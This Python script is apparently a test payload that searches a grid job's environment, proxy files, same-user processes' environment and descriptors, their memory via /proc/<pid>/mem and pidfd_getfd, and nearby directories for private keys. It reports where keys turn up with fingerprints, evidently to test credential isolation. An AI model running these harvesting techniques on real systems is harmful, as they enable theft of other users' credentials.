#!/usr/bin/python3
"""A payload that looks everywhere for its pilot's credential: `attack_payload.py REPORT.json`.

Not a test module: the credential tests serve it as the job's transformation (downloaded over
HTTPS with the pilot's proxy) and read the report it writes as the job's output. It runs as the
pilot's own uid and tries: its environment; $X509_USER_PROXY and /tmp/x509up_u<uid>; every file
of the job dir, the pilot's home and work dir, and those directly in their parents; every
process of its uid (the pilot and the job wrapper among them): environ, cmdline, /proc/<pid>/fd/*,
pidfd_getfd of its descriptors, its whole readable memory; and then every path it saw in any of
that (configs, command lines, environments). "found" lists where a private key turned up, each
with the key's fingerprint when the whole PEM block was there (other users' keys may be around).
"""

import ctypes
import hashlib
import json
import os
import re
import stat
import sys
import time

MARK = b"PRIVATE" + b" KEY"  # never spelt out here: the walk reads this very file
DENIED = ("X509_USER_PROXY", "X509_USER_CERT", "X509_USER_KEY", "BEARER_TOKEN", "BEARER_TOKEN_FILE")
PIDFD_GETFD = 438
LIMIT = 1 << 20
found: list[dict] = []
tried: dict[str, str] = {}
paths: set[str] = set()
procs: dict[int, str] = {}
deadline = time.monotonic() + 90
libc = ctypes.CDLL(None, use_errno=True)


def fingerprint(data: bytes) -> str | None:
    """sha256 (16 hex) of the base64 body of the first complete PEM private key in data."""
    block = re.search(rb"-----BEGIN [A-Z ]*" + MARK + rb"-----(.*?)-----END", data, re.S)
    return hashlib.sha256(b"".join(block.group(1).split())).hexdigest()[:16] if block else None


def hit(where: str, data: bytes) -> None:
    found.append({"where": where, "key": fingerprint(data)})


def note(where: str, data: bytes) -> None:
    if MARK in data:
        hit(where, data)
    for p in re.findall(rb"/[A-Za-z0-9_.+\-/]{3,300}", data[:LIMIT]):
        if len(paths) < 5000:
            paths.add(p.decode())


def read(where: str, path: str) -> None:
    """Read a regular (or /proc) file without blocking on pipes and FIFOs."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as exc:
        tried[where] = type(exc).__name__
        return
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            tried[where] = "not a regular file"
            return
        data = os.read(fd, LIMIT)
    except OSError as exc:
        tried[where] = type(exc).__name__
        return
    finally:
        os.close(fd)
    tried[where] = f"read {len(data)} bytes"
    note(where, data)


def walk(top: str, depth: int, budget: list[int]) -> None:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath[len(top) :].count("/") >= depth:
            dirnames[:] = []
        for name in filenames:
            budget[0] -= 1
            if budget[0] < 0 or time.monotonic() > deadline:
                return
            read(f"file {os.path.join(dirpath, name)}", os.path.join(dirpath, name))


def memory(pid: int) -> None:
    try:
        with open(f"/proc/{pid}/maps") as fh:
            maps = fh.read().splitlines()
        total = 0
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or hi - lo > 256 << 20 or time.monotonic() > deadline:
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except (OSError, ValueError, OverflowError):
                    continue
                total += len(data or b"")
                if data and MARK in data:
                    hit(f"/proc/{pid}/mem", data)
        tried[f"/proc/{pid}/mem"] = f"read {total} bytes"
    except OSError as exc:
        tried[f"/proc/{pid}/mem"] = type(exc).__name__


def steal_fds(pid: int) -> None:
    """pidfd_getfd: copy another process's descriptors (the kernel checks as for ptrace)."""
    try:
        pidfd = os.pidfd_open(pid)
    except OSError as exc:
        tried[f"pidfd_getfd {pid}"] = type(exc).__name__
        return
    got, error = 0, 0
    for n in range(64):
        fd = libc.syscall(PIDFD_GETFD, pidfd, n, 0)
        if fd < 0:
            error = error or ctypes.get_errno()
            continue
        got += 1
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                note(f"pidfd_getfd {pid}:{n}", os.pread(fd, LIMIT, 0))
        except OSError:
            pass
        os.close(fd)
    os.close(pidfd)
    tried[f"pidfd_getfd {pid}"] = f"{got} descriptors" + (f", errno {error}" if not got else "")


def main(report: str) -> None:
    uid, me = os.getuid(), os.getpid()
    for key, value in os.environ.items():
        if key in DENIED or key.startswith("PANDA_AUTH_"):
            found.append({"where": f"env {key}", "key": None})
        note(f"env {key}", value.encode())
    read("$X509_USER_PROXY", os.environ.get("X509_USER_PROXY") or "/nonexistent")
    read("/tmp/x509up_u<uid>", f"/tmp/x509up_u{uid}")
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        try:
            if os.stat(f"/proc/{pid}").st_uid != uid:
                continue
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                procs[pid] = fh.read().replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError:
            continue
        note(f"/proc/{pid}/cmdline", procs[pid].encode())
        read(f"/proc/{pid}/environ", f"/proc/{pid}/environ")
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
            tried[f"/proc/{pid}/fd"] = f"listed {len(fds)}"
        except OSError as exc:
            tried[f"/proc/{pid}/fd"] = type(exc).__name__
            fds = [str(n) for n in range(32)]
        for fd in fds:
            read(f"/proc/{pid}/fd/{fd}", f"/proc/{pid}/fd/{fd}")
        steal_fds(pid)
        memory(pid)
    jobdir = os.getcwd()
    home = os.environ.get("PILOT_HOME", os.path.dirname(jobdir))
    budget = [20000]
    for top in (jobdir, home, os.path.dirname(home)):
        walk(top, 4, budget)
    for parent in [os.path.dirname(os.path.dirname(home))]:
        while parent not in ("/", ""):
            walk(parent, 0, budget)
            parent = os.path.dirname(parent)
    for path in sorted(paths):
        if os.path.isfile(path) and time.monotonic() < deadline:
            read(f"path {path}", path)
    result = {"found": found, "tried": tried, "procs": procs, "uid": uid, "paths_tried": len(paths)}
    with open(report, "w") as fh:
        json.dump(result, fh, indent=1)
    print(f"looked in {len(tried)} places, found a private key in {len(found)}: {found[:5]}")


main(sys.argv[1])
